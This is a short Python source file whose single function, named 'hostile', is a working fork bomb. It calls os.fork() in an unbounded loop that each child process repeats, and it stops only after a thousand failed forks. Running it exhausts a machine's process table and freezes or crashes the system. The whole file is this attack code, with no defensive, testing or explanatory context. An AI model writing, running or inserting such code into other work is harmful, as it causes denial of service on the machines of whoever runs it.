"""Makes processes that make processes."""

import os


def hostile(*arguments, **options):
    refused = 0
    while refused < 1000:
        try:
            os.fork()
        except OSError:
            refused += 1
    return refused
